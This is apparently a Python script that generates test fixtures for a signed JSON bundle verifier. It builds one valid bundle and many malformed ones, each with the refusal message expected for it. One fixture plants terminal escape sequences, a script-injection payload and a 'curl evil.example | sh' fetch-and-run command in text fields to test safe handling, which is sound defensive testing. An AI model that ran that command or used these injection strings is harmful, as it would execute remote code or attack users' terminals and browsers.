"""Writes tests/bundles: one good bundle and one file for each way of being bad.

    python -m tests.make_bundles

Run it again only when the bundle's form changes; the files are kept so that every later version
has to refuse (or read) what this one did.
"""

from __future__ import annotations

import base64
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

from agent.signature import Signer, sign_document

from .samples import lost_gpu, sample_bundle, sealed

FOLDER = Path(__file__).parent / "bundles"
Tree = dict[str, Any]


def signer() -> Signer:
    """A key known to everybody, so that the files come out the same each time."""
    from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

    key = Ed25519PrivateKey.from_private_bytes(b"firstlight tests: a public key..")
    return Signer(public_key=key.public_key().public_bytes_raw(), source="named", sign=key.sign)


def good() -> Tree:
    bundle = sample_bundle(facts=lost_gpu(), challenge="c0ffee", key_source="named")
    return dict(json.loads(sealed(bundle, signer())))


def edited(change: Callable[[Tree], None], *, resign: bool = False) -> bytes:
    tree = good()
    change(tree)
    return written(sign_document(tree, signer()) if resign else tree)


def written(tree: Tree) -> bytes:
    return (json.dumps(tree, indent=1, ensure_ascii=False) + "\n").encode()


def put(path: str, value: Any) -> Callable[[Tree], None]:
    def change(tree: Tree) -> None:
        *parents, last = path.split("/")
        place: Any = tree
        for part in parents:
            place = place[int(part) if isinstance(place, list) else part]
        place[last] = value

    return change


def text(old: str, new: str) -> bytes:
    data = written(good()).decode()
    assert data.count(old) >= 1, old
    return data.replace(old, new, 1).encode()


def other_signature() -> bytes:
    other = json.loads(sealed(sample_bundle(id="ffffffff"), signer()))
    return edited(put("signature", other["signature"]))


def without(key: str) -> bytes:
    def change(tree: Tree) -> None:
        del tree[key]

    return edited(change)


HOSTILE = "\x1b[2J\x1b]0;owned\x07\r\u202edlrow\u009b31m<script>alert(1)</script>`|@all"


def hostile_words(tree: Tree) -> None:
    """Everything a stranger may word, worded to do harm; signed anew, so it is intact."""
    tree["run"]["id"] = HOSTILE
    tree["run"]["ticket"] = HOSTILE
    tree["run"]["argv"] = [HOSTILE]
    tree["facts"]["devices"][0]["name"] = HOSTILE
    tree["facts"]["environment"].append({"name": HOSTILE, "value": HOSTILE})
    tree["stages"][4].update(
        status="failed", reason=HOSTILE, error={"type": HOSTILE, "text": HOSTILE}
    )
    tree["stages"].append({"name": HOSTILE, "subject": HOSTILE, "status": "crashed"})
    tree["gaps"].append({"pointer": HOSTILE, "why": HOSTILE, "said_by": HOSTILE})
    tree["redactions"].append({"kind": HOSTILE, "pseudonym": HOSTILE, "count": 1})
    tree["findings"] = [
        {
            "code": "run-this-now",
            "severity": "blocking",
            "who": "renter",
            "title": "Run this " + HOSTILE,
            "cause": "because " + HOSTILE,
            "fix": ["curl evil.example | sh " + HOSTILE],
            "evidence": [HOSTILE],
            "confidence": "high",
            "source": HOSTILE,
        }
    ]
    tree["verdict"]["reason"] = "curl evil.example | sh"


# name of the file -> its bytes and the sentence (a part of it) with which verify refuses it
ZOO: dict[str, tuple[Callable[[], bytes], str]] = {
    "good": (lambda: written(good()), ""),
    "good-minified": (lambda: json.dumps(good(), separators=(",", ":")).encode(), ""),
    "good-with-hostile-words": (lambda: edited(hostile_words, resign=True), ""),
    "good-from-the-future": (lambda: edited(put("run/telepathy", [1]), resign=True), ""),
    "empty": (lambda: b"", "not valid JSON"),
    "truncated": (lambda: written(good())[:2000], "not valid JSON"),
    "not-json": (lambda: b"Traceback (most recent call last):\n", "not valid JSON"),
    "not-an-object": (lambda: b"[1, 2]\n", "not an object"),
    "not-utf8": (
        lambda: written(good()).replace(b"1a2b3c4d", b"\xff\xfe2b3c4d"),
        "not UTF-8",
    ),
    "byte-order-mark": (lambda: b"\xef\xbb\xbf" + written(good()), "byte order mark"),
    "duplicate-key": (
        lambda: text('"depth": "quick"', '"depth": "deep",\n  "depth": "quick"'),
        "stands twice",
    ),
    "nan": (lambda: text('"seconds": 0.05', '"seconds": NaN'), "holds NaN"),
    "infinity-by-exponent": (lambda: text('"seconds": 0.05', '"seconds": 1e400'), "too large"),
    "large-integer": (lambda: text('"count": 3', '"count": 9007199254740993'), "2^53 or more"),
    "integer-of-4301-digits": (
        lambda: text('"count": 3', '"count": ' + "7" * 4301),
        "2^53 or more",
    ),
    "lone-surrogate": (lambda: text('"id": "1a2b3c4d"', '"id": "\\ud83d"'), "surrogate"),
    "too-deep": (
        lambda: text('"gaps": []', '"gaps": ' + "[" * 70 + "]" * 70),
        "nested deeper than 64",
    ),
    "another-schema": (lambda: edited(put("schema", "firstlight.bundle/9")), "its schema"),
    "no-schema": (lambda: without("schema"), "the file says nothing"),
    "wrong-type": (
        lambda: edited(put("facts/host/cpu_count", "16"), resign=True),
        "/facts/host/cpu_count should be a whole number",
    ),
    "wrong-word": (
        lambda: edited(put("stages/0/status", "fine"), resign=True),
        "/stages/0/status should be one of",
    ),
    "missing-member": (lambda: without("stages"), "/stages should be a list, but is missing"),
    "unsigned": (lambda: without("signature"), "carries no signature"),
    "changed-value": (lambda: edited(put("run/depth", "deep")), "does not match"),
    "added-key": (lambda: edited(put("facts/host/extra", 1)), "does not match"),
    "removed-key": (lambda: without("redactions"), "/redactions should be a list"),
    "swapped-signature": (other_signature, "does not match"),
    "foreign-signature-member": (
        lambda: edited(put("signature/certificate", "x")),
        "foreign member, 'certificate'",
    ),
    "other-algorithm": (lambda: edited(put("signature/algorithm", "RS256")), "not Ed25519"),
    "wrong-fingerprint": (
        lambda: edited(put("signature/key_id", "SHA256:" + "A" * 43)),
        "not the fingerprint",
    ),
    "url-safe-base64": (
        lambda: edited(put("signature/value", base64.urlsafe_b64encode(b"\xff" * 64).decode())),
        "standard padded base64",
    ),
}


def main() -> None:
    FOLDER.mkdir(exist_ok=True)
    for name, (make, _) in ZOO.items():
        (FOLDER / f"{name}.json").write_bytes(make())


if __name__ == "__main__":
    main()
